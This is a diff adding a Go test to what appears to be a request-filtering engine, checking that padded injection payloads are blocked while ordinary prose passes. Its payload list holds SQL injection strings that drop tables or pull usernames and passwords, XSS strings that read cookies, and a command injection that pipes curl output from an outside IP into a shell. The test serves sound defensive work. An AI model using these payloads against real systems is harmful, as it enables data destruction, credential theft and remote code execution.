@@ -46,3 +46,39 @@ func TestCodeStillRead(t *testing.T) {
 		t.Run("doc "+strings.Fields(doc)[0], func(t *testing.T) { wantPostBlocked(t, e, doc, false) })
 	}
 }
+
+// TestFreeTextStartReadAsValue checks the padding bypass: a payload that
+// ends the interpreter's reading with a comment mark, then enough words
+// to read as free text, is judged by its start as a value would be; prose
+// whose first line holds an em dash, a URL, an anchor or C# passes.
+// Removing the start's reading fails the payloads.
+func TestFreeTextStartReadAsValue(t *testing.T) {
+	e, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	const pad = " and here are some more words for you to read"
+	for _, p := range []string{
+		"1; drop table users --",
+		"1;select pg_sleep(10)--",
+		"1 and sleep(5)--",
+		"1 or 1=1 #",
+		"1 union select username,password from users--",
+		"; sleep 10 #",
+		"&& curl http://203.0.113.9/x | sh #",
+		"javascript:alert(document.cookie)//",
+		"<svg onload=alert(1)>//",
+	} {
+		t.Run(p, func(t *testing.T) { wantPostBlocked(t, e, p+pad, true) })
+	}
+	for _, prose := range []string{
+		"I went home early -- and slept for most of the afternoon, which helped.",
+		"See https://example.com/docs#install for the steps, then restart the server.",
+		"Languages like C# and F# run on .NET; both compile to the same bytecode.",
+		"The selector div#main > p picks the paragraphs // not the spans, as noted above.",
+		"Use --verbose to see every request, or --quiet to see none of them at all.",
+		"Chapter 3 #1 bestseller, and the one that sold the most copies last year.",
+	} {
+		t.Run("prose", func(t *testing.T) { wantPostBlocked(t, e, prose, false) })
+	}
+}
